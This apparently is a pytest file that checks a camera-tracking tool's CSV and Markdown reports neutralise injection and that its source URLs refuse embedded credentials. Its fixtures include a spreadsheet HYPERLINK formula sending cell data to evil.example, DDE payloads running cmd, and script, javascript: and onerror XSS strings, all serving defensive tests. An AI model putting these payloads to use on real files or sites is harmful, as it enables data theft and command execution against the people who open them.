"""What a page or a user wrote cannot turn into a spreadsheet formula, live Markdown or a stored
password (issue 22, item 9)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlite_utils

from storage import open_database
from tests.test_report_words import SOURCE, event
from vigicam.cli import cli
from vigicam.report_data import ReportData
from vigicam.reporters import REPORTERS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def db(db_path):
    db = open_database(db_path)
    db["sources"].insert(SOURCE)
    return db


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(db):
    db["changes"].insert_all([event("changed", place=text, metric="cameras", old_value=64.0, new_value=62.0,
                                    delta=-2.0, old_evidence=text, new_evidence="62 caméras") for text in HOSTILE],
                             alter=False)
    rows = list(csv.DictReader(io.StringIO(REPORTERS["csv"](ReportData(db)))))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        assert row["place"] == row["old_evidence"] == "'" + text
        assert row["delta"] == "-2.0"  # a number stays a number
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t") or (c[:1] == "-" and c != "-2.0")]


def test_markdown_escapes_what_came_from_a_page(db):
    db["changes"].insert_all([
        event("new", place="Dreux\n- **fake event**: cameras 0", metric="cameras", new_value=64.0,
              new_qualifier="exact", new_evidence="64 caméras <script>alert(1)</script> "
              "[voir](javascript:alert(1)) ![](https://tracker.example/pixel.gif) <img src=x onerror=alert(1)>"),
    ], alter=False)
    report = REPORTERS["markdown"](ReportData(db))
    items = [line for line in report.splitlines() if line.startswith("- ")]
    assert len(items) == 1  # the place's line break did not open a second list item
    page_text = report.replace("now: > ", "")  # the report's own quote mark
    assert not re.search(r"(?<!\\)[<>\[\]]", page_text)  # no bracket Markdown would read as HTML or a link
    assert "\\<script\\>" in report and "\\[voir\\](javascript:alert(1))" in report
    assert "Dreux - \\*\\*fake event\\*\\*" in report


@pytest.mark.parametrize("url,why", [
    ("http://a.example/x\nhttp://b.example/", "malformed URL"),
    ('http://a.example/"onmouseover="alert(1)', "malformed URL"),
    ("http://a.example/<script>", "malformed URL"),
    ("http://user:secret@a.example/", "user name or password"),
    ("http://token@a.example/", "user name or password"),
], ids=["newline", "quote", "angle-bracket", "user-password", "user"])
def test_sources_add_refuses_urls_that_break_out_or_carry_credentials(runner, db_path, url, why):
    result = runner.invoke(cli, ["--db", str(db_path), "sources", "add", url, "--place", "Dreux"])
    assert result.exit_code == 2, result.output
    assert why in result.output and "secret" not in result.output
    assert not db_path.exists() or sqlite_utils.Database(db_path)["sources"].count == 0


def test_a_sources_file_cannot_smuggle_credentials(runner, db_path, tmp_path):
    path = tmp_path / "s.toml"
    path.write_text('[[sources]]\nurl = "https://user:secret@a.example/"\nplace = "X"\n', encoding="utf-8")
    result = runner.invoke(cli, ["--db", str(db_path), "sources", "import", str(path)])
    assert result.exit_code == 1 and "user name or password" in result.output and "secret" not in result.output
